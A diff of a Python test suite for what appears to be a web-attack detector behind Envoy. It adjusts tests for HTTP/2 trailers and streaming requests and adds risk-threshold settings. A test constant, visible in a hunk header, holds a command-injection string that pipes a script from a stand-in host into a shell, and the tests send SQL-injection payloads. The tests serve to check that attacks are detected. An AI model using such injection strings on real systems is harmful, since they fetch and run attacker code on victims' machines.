@@ -11,9 +11,9 @@ COMMAND = "; curl http://x.example/s | sh"
 
 
 def test_trailers_of_http2(scene, user):
-    reply = scene.client.http2(f"/late/{user}", user, [b"abc"], trailers=[("x-note", SQLI)])
-    assert reply.status == 200
-    assert scene.logged(reply)["rules"][0]["target"] == "header:x-note"
+    assert scene.client.http2(f"/late/{user}", user, [b"abc"], trailers=[("x-note", SQLI)]) == 200
+    event = scene.envoy.wait_event("malicious_request", user=user)
+    assert event["rules"][0]["target"] == "header:x-note"
 
 
 def test_trailers_of_http1(start, user):
@@ -43,7 +43,9 @@ def test_grpc_web_text(scene, user):
 def test_a_stream_counts_while_it_lasts(start, user, upgrade):
     """The application answers at once and goes on listening; the incident opens before the request has an end."""
     with Talker() as talker:
-        scene = start(edit=lambda example: _talk_to(example, talker.port))
+        # One stretch adds five points: two are needed.
+        risk = {"threshold": 8, "exchange_cap": 8}
+        scene = start(edit=lambda example: _talk_to(example, talker.port), risk=risk)
         with socket.create_connection(("127.0.0.1", scene.envoy.port), timeout=10) as connection:
             how = "connection: upgrade\r\nupgrade: websocket" if upgrade else "transfer-encoding: chunked"
             method = "GET" if upgrade else "POST"
